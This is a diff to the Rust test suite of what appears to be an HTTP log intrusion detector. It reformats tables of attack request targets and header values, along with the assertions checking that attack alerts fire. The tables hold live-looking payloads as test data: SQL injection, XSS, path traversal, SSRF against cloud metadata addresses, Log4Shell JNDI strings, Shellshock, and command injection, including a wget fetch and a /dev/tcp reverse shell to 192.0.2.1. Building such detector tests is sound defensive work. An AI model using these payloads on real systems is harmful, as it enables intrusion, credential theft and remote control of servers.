@@ -24,10 +24,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("/run?c=a%0aid", BROWSER),
     ("/view?file=/var/log/auth.log", BROWSER),
     ("/view?file=zip://a.zip%23x.php", BROWSER),
-    (
-        "/fetch?url=http%253A%252F%252F169.254.169.254%252F",
-        BROWSER,
-    ),
+    ("/fetch?url=http%253A%252F%252F169.254.169.254%252F", BROWSER),
     ("/fetch?url=//169.254.169.254/latest/", BROWSER),
     ("/fetch?url=http://instance-data/latest/", BROWSER),
     ("/fetch?url=http://a@127.0.0.1/", BROWSER),
@@ -44,14 +41,8 @@ const TARGETS: &[(&str, &str)] = &[
     ("/hello?name=${7*7}", BROWSER),
     ("/?x=${jndi:ldap://192.0.2.1/a}", BROWSER),
     ("/?x=%24%7B%24%7B::-j%7Dndi:ldap://192.0.2.1/a%7D", BROWSER),
-    (
-        "/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
-        BROWSER,
-    ),
-    (
-        "/fetch?url=http://169.254.169.254/latest/meta-data/",
-        BROWSER,
-    ),
+    ("/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", BROWSER),
+    ("/fetch?url=http://169.254.169.254/latest/meta-data/", BROWSER),
     ("/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F", BROWSER),
     ("/fetch?path=file:///etc/hostname", BROWSER),
     ("/x?u=http://[::ffff:169.254.169.254]/", BROWSER),
@@ -71,10 +62,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("/cgi-bin/status", "() { :;}; /bin/cat /etc/hostname"),
     ("http://example.com/", BROWSER),
     // Double-encoded, overlong, and with other whitespace.
-    (
-        "/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
-        BROWSER,
-    ),
+    ("/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", BROWSER),
     ("/static/..%c0%af..%c0%afconf", BROWSER),
     ("/item?id=1%2527%2520or%25201%253D1--", BROWSER),
     ("/item?id=7/**/union/*!50000select*/null,null", BROWSER),
@@ -83,16 +71,10 @@ const TARGETS: &[(&str, &str)] = &[
     ("/item?name=x'||(select+version())||'", BROWSER),
     ("/item?name=root%27--%20", BROWSER),
     ("/item?name=x%27;drop%20table%20orders", BROWSER),
-    (
-        "/item?name=x%22)%20and%20ascii(substr(user,1,1))>64",
-        BROWSER,
-    ),
+    ("/item?name=x%22)%20and%20ascii(substr(user,1,1))>64", BROWSER),
     ("/item?id=if(1,2,3)%20or%20benchmark(9000,md5(1))", BROWSER),
     ("/item?id=9)%20or%20(9=9", BROWSER),
-    (
-        "/item?id=0%20union%20all%20select%20pw%20from%20users",
-        BROWSER,
-    ),
+    ("/item?id=0%20union%20all%20select%20pw%20from%20users", BROWSER),
     ("/search?q=%22%3E%3Cbody%20onpageshow%3Dstart()%3E", BROWSER),
     ("/search?q=%3Cdetails%20open%20ontoggle%3Dgo%3E", BROWSER),
     ("/search?q=x%27%20onmouseenter=go()%20x=%27", BROWSER),
@@ -106,27 +88,15 @@ const TARGETS: &[(&str, &str)] = &[
     ("/hello?name={{''.__class__.__mro__}}", BROWSER),
     ("/api?a[__proto__][admin]=1", BROWSER),
     ("/page?t=%3C%3Fphp%20echo%201%3B%3F%3E", BROWSER),
-    (
-        "/page?t=O:4:%22User%22:1:%7Bs:1:%22a%22%3Bi:1%3B%7D",
-        BROWSER,
-    ),
+    ("/page?t=O:4:%22User%22:1:%7Bs:1:%22a%22%3Bi:1%3B%7D", BROWSER),
     ("/ping?host=a%26%26wget%20http://192.0.2.1/x", BROWSER),
     ("/ping?host=$(cat$IFS/etc/fstab)", BROWSER),
     ("/ping?host=%7Cid", BROWSER),
-    (
-        "/ping?host=x%20%26%20for%20%25a%20in%20(1)%20do%20ver",
-        BROWSER,
-    ),
+    ("/ping?host=x%20%26%20for%20%25a%20in%20(1)%20do%20ver", BROWSER),
     ("/ping?host=a;bash+-i+>%26+/dev/tcp/192.0.2.1/9", BROWSER),
     // By characters that programs take for others, in other forms of an address, and by operators.
-    (
-        "/view?file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/conf",
-        BROWSER,
-    ),
-    (
-        "/view?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2216conf",
-        BROWSER,
-    ),
+    ("/view?file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/conf", BROWSER),
+    ("/view?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2216conf", BROWSER),
     ("/view?file=..%ef%bc%8f..%ef%bc%8fconf", BROWSER),
     ("/view?file=..%c0%2f..%c1%1cconf", BROWSER),
     ("/view?file=%5cu002e%5cu002e/%5cu002e%5cu002e/conf", BROWSER),
@@ -148,14 +118,8 @@ const TARGETS: &[(&str, &str)] = &[
     ("/x?u=http://[0:0:0:0:0:ffff:a9fe:a9fe]/", BROWSER),
     ("/x?u=169.254.169.254/latest/", BROWSER),
     ("/x?u=http:169.254.169.254/", BROWSER),
-    (
-        "/x?u=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254/",
-        BROWSER,
-    ),
-    (
-        "/x?u=http://169%E3%80%82254%E3%80%82169%E3%80%82254/",
-        BROWSER,
-    ),
+    ("/x?u=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254/", BROWSER),
+    ("/x?u=http://169%E3%80%82254%E3%80%82169%E3%80%82254/", BROWSER),
     ("/x?url=http://[::ffff:127.0.0.1]/", BROWSER),
     ("/x?url=http://0177.0.0.1/", BROWSER),
     ("/x?u=unix:///run/x.sock", BROWSER),
@@ -182,10 +146,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("/ping?host=%26%20dir%20c:%5C", BROWSER),
     ("/ping?host=%3Becho+hi", BROWSER),
     ("/fetch?webhook=http://192.168.7.1/", BROWSER),
-    (
-        "/fetch?image_url=http%3A%2F%2F172.20.0.9%3A2375%2F",
-        BROWSER,
-    ),
+    ("/fetch?image_url=http%3A%2F%2F172.20.0.9%3A2375%2F", BROWSER),
     ("/fetch?feedUrl=http://localhost:8500/", BROWSER),
     ("/search?q=x&url=http://169.254.169.254/", BROWSER),
     ("/backups/site.tar.gz", BROWSER),
@@ -382,11 +343,7 @@ const FIELDS: &[(&str, &str, bool)] = &[
     ("x-forwarded-for", "${jndi:ldap://192.0.2.1}", true),
     ("accept-language", "${jndi:ldap://192.0.2.1}", true),
     ("origin", "${jndi:ldap://192.0.2.1}", true),
-    (
-        "content-type",
-        "%{(#_='x').(#dm=@ognl.OgnlContext@X)}",
-        true,
-    ),
+    ("content-type", "%{(#_='x').(#dm=@ognl.OgnlContext@X)}", true),
     ("spring.cloud.function.routing-expression", "T(x)", true),
     ("x-middleware-subrequest", "middleware:middleware", true),
     ("x-pan-authcheck", "off", true),
@@ -418,15 +375,8 @@ fn attacks_in_other_fields_are_informational() {
         let raised = alerts.iter().filter(of);
         let raised: Vec<_> = raised.map(|alert| &alert["rule"]["id"]).collect();
         let case = format!("{name}: {value}: {raised:?} {}", ran.err);
-        assert_eq!(
-            raised.iter().any(|id| **id == "http-attack-attempt"),
-            *is_attack,
-            "{case}"
-        );
-        assert!(
-            !raised.iter().any(|id| **id == "http-attack-answered"),
-            "{case}"
-        );
+        assert_eq!(raised.iter().any(|id| **id == "http-attack-attempt"), *is_attack, "{case}");
+        assert!(!raised.iter().any(|id| **id == "http-attack-answered"), "{case}");
     }
 }
 
@@ -463,11 +413,7 @@ fn fields_of_scripts_and_archives_of_hosts_are_attacks() {
         };
         let raised = alerts.iter().filter(of);
         let mut ids = raised.map(|alert| &alert["rule"]["id"]);
-        assert_eq!(
-            ids.any(|id| id == "http-attack-answered"),
-            case.3,
-            "{case:?}"
-        );
+        assert_eq!(ids.any(|id| id == "http-attack-answered"), case.3, "{case:?}");
     }
 }
 
@@ -483,11 +429,7 @@ fn several_attempts_are_medium() {
     let alerts = alerts_of_log(&lines.collect::<String>());
     for (client, (target, _)) in all.iter().enumerate() {
         let several = ("http-attack-attempts".to_owned(), 5);
-        assert!(
-            alerts[&client].contains(&several),
-            "{target}: {:?}",
-            alerts[&client]
-        );
+        assert!(alerts[&client].contains(&several), "{target}: {:?}", alerts[&client]);
     }
 }
 
@@ -498,9 +440,7 @@ fn ordinary_targets_are_no_attempts() {
         lines.map(move |(client, target)| log_line(client, second, ("GET", target), 200, BROWSER))
     });
     let alerts = alerts_of_log(&lines.collect::<String>());
-    let raised: Vec<_> = alerts
-        .iter()
-        .map(|(client, alerts)| (ORDINARY[*client], alerts))
-        .collect();
+    let raised: Vec<_> =
+        alerts.iter().map(|(client, alerts)| (ORDINARY[*client], alerts)).collect();
     assert!(raised.is_empty(), "{raised:?}");
 }
